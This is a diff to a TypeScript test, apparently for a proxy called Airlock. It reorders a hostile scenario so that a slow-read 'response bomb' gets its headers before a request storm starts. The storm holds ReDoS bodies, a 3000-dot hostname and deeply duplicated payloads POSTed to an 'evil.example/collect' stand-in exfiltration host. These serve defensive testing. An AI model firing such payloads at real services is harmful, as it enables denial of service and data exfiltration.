@@ -178,11 +178,16 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
   let bombStatus = 0;
   let bombText = '';
   const hostileDone = (async () => {
-    // The response bomb first: decided before the storm's own records fill this agent's share of
-    // the audit backlog (past it the agent's requests get 503, which a loaded disk reached).
+    // The response bomb first, and the storm only once its head is back: decided before the
+    // storm's own records fill this agent's share of the audit backlog (past it the agent's
+    // requests get 503, the design; fired first but still in its TLS handshake, a loaded run's
+    // bomb met that 503). Its slow reading still overlaps the storm.
+    let answered: () => void = () => undefined;
+    const bombAnswered = new Promise<void>((resolve) => (answered = resolve));
     fire('https://api.github.com/repos/acme/bomb', {
       onResponse: (res) => {
         bombStatus = res.statusCode ?? 0;
+        answered();
         res.pause(); // a slow reader: Airlock must not inflate ahead of it
         setTimeout(() => {
           res.on('data', (d: Buffer) => {
@@ -197,6 +202,7 @@ async function hostileScenario(t: Test, origin: Upstream): Promise<void> {
         }, 4000);
       },
     });
+    await Promise.race([bombAnswered, new Promise((r) => setTimeout(r, 15_000))]);
     for (let i = 0; i < 3; i++) fire('https://api.github.com/graphql', { method: 'POST', body: redos });
     fire(`https://a${'.'.repeat(3000)}b.example/`);
     for (let i = 0; i < 2; i++) fire('https://evil.example/collect', { method: 'POST', body: deepDuplicates });
